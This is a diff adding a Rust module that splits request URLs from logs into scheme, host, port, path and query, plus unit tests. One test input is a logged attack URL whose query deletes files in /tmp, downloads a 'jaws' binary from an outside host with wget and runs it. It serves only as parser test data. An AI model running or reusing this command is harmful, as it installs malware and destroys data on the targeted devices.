@@ -1,0 +1,224 @@
+//! Splitting the URL of the request field.
+
+/// Parts of a request URL. Every part borrows from the input; nothing is decoded.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
+pub struct UrlParts<'a> {
+    /// `http`, `https`, ... (`None` for a relative URL such as `/x?y`).
+    pub scheme: Option<&'a str>,
+    /// Host name or IP; IPv6 brackets are stripped (`[::1]:443` gives `::1`).
+    pub host: Option<&'a str>,
+    /// `None` when absent or not a valid port (`http://host:80-`).
+    pub port: Option<u16>,
+    /// From the first `/` after the host up to `?`: `/` for `http://h:80/`,
+    /// `None` for `https://example.com`.
+    pub path: Option<&'a str>,
+    /// After the first `?`, without it (`Some("")` for a trailing `?`).
+    pub query: Option<&'a str>,
+}
+
+/// Splits `scheme://host:port/path?query` or a relative `/path?query`.
+/// Never fails: unparseable parts are `None`.
+pub fn split_url(url: &str) -> UrlParts<'_> {
+    let mut parts = UrlParts::default();
+    let (before_query, query) = match url.split_once('?') {
+        Some((b, q)) => (b, Some(q)),
+        None => (url, None),
+    };
+    parts.query = query;
+
+    let mut rest = before_query;
+    if let Some(idx) = before_query.find("://") {
+        let scheme = &before_query[..idx];
+        let valid = !scheme.is_empty()
+            && scheme
+                .bytes()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.'));
+        if valid {
+            parts.scheme = Some(scheme);
+            let after = &before_query[idx + 3..];
+            let (authority, path) = match after.find('/') {
+                Some(p) => (&after[..p], Some(&after[p..])),
+                None => (after, None),
+            };
+            let (host, port) = split_authority(authority);
+            parts.host = host;
+            parts.port = port;
+            parts.path = path;
+            return parts;
+        }
+    }
+    if rest.is_empty() {
+        return parts;
+    }
+    // Relative (or odd, like "*" or "host:443" for CONNECT): all of it is the path.
+    if rest == "-" {
+        rest = "";
+    }
+    parts.path = (!rest.is_empty()).then_some(rest);
+    parts
+}
+
+/// `host`, `host:port`, `[v6]`, `[v6]:port`; drops userinfo (`user@`).
+fn split_authority(authority: &str) -> (Option<&str>, Option<u16>) {
+    let authority = authority.rsplit_once('@').map_or(authority, |(_, a)| a);
+    if let Some(rest) = authority.strip_prefix('[') {
+        return match rest.split_once(']') {
+            Some((host, after)) => (
+                (!host.is_empty()).then_some(host),
+                after.strip_prefix(':').and_then(port),
+            ),
+            None => ((!rest.is_empty()).then_some(rest), None),
+        };
+    }
+    match authority.rsplit_once(':') {
+        Some((host, p)) => ((!host.is_empty()).then_some(host), port(p)),
+        None => ((!authority.is_empty()).then_some(authority), None),
+    }
+}
+
+fn port(s: &str) -> Option<u16> {
+    if s.is_empty() || s.len() > 5 || !s.bytes().all(|c| c.is_ascii_digit()) {
+        return None;
+    }
+    s.parse().ok()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn parts<'a>(
+        scheme: Option<&'a str>,
+        host: Option<&'a str>,
+        port: Option<u16>,
+        path: Option<&'a str>,
+        query: Option<&'a str>,
+    ) -> UrlParts<'a> {
+        UrlParts {
+            scheme,
+            host,
+            port,
+            path,
+            query,
+        }
+    }
+
+    #[test]
+    fn absolute() {
+        assert_eq!(
+            split_url("http://www.example.com:80/"),
+            parts(
+                Some("http"),
+                Some("www.example.com"),
+                Some(80),
+                Some("/"),
+                None
+            )
+        );
+        assert_eq!(
+            split_url("https://test.domain.com:443/api/deposits/transactions:search?detailsLevel=FULL&offset=0&limit=50"),
+            parts(
+                Some("https"),
+                Some("test.domain.com"),
+                Some(443),
+                Some("/api/deposits/transactions:search"),
+                Some("detailsLevel=FULL&offset=0&limit=50")
+            )
+        );
+        assert_eq!(
+            split_url("https://example.com"),
+            parts(Some("https"), Some("example.com"), None, None, None)
+        );
+        assert_eq!(
+            split_url("https://redirect.example.com?key1=value1"),
+            parts(
+                Some("https"),
+                Some("redirect.example.com"),
+                None,
+                None,
+                Some("key1=value1")
+            )
+        );
+        // SpaceInUri (sample line 38), same split as elastic/integrations.
+        assert_eq!(
+            split_url(
+                "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
+            ),
+            parts(
+                Some("http"),
+                Some("127.0.0.1"),
+                Some(80),
+                Some("/shell"),
+                Some("cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws")
+            )
+        );
+        assert_eq!(
+            split_url("http://h:80/x?"),
+            parts(Some("http"), Some("h"), Some(80), Some("/x"), Some(""))
+        );
+    }
+
+    #[test]
+    fn ipv6_and_odd_hosts() {
+        assert_eq!(
+            split_url("https://[::1]:443/a"),
+            parts(Some("https"), Some("::1"), Some(443), Some("/a"), None)
+        );
+        assert_eq!(
+            split_url("http://[2001:db8::1]/"),
+            parts(Some("http"), Some("2001:db8::1"), None, Some("/"), None)
+        );
+        // Malformed request URL as logged for 400s: port is not a number.
+        assert_eq!(
+            split_url("http://example.com:8080-"),
+            parts(Some("http"), Some("example.com"), None, None, None)
+        );
+        assert_eq!(
+            split_url("http://internal.example.com:80-/"),
+            parts(
+                Some("http"),
+                Some("internal.example.com"),
+                None,
+                Some("/"),
+                None
+            )
+        );
+        assert_eq!(
+            split_url("http://user:pw@h:8080/p"),
+            parts(Some("http"), Some("h"), Some(8080), Some("/p"), None)
+        );
+    }
+
+    #[test]
+    fn relative_and_garbage() {
+        assert_eq!(
+            split_url("/x?y"),
+            parts(None, None, None, Some("/x"), Some("y"))
+        );
+        assert_eq!(split_url("/"), parts(None, None, None, Some("/"), None));
+        assert_eq!(split_url(""), UrlParts::default());
+        assert_eq!(split_url("-"), UrlParts::default());
+        assert_eq!(split_url("?q"), parts(None, None, None, None, Some("q")));
+        // "://" inside the query or path is not a scheme.
+        assert_eq!(
+            split_url("/r?u=http://x/"),
+            parts(None, None, None, Some("/r"), Some("u=http://x/"))
+        );
+        assert_eq!(
+            split_url("/a/http://x"),
+            parts(None, None, None, Some("/a/http://x"), None)
+        );
+        for s in [
+            "://",
+            "[",
+            "http://[",
+            "http://[::1",
+            "http://:",
+            "é://é",
+            "http://h:99999/",
+        ] {
+            let _ = split_url(s);
+        }
+        assert_eq!(split_url("http://h:99999/").port, None);
+    }
+}
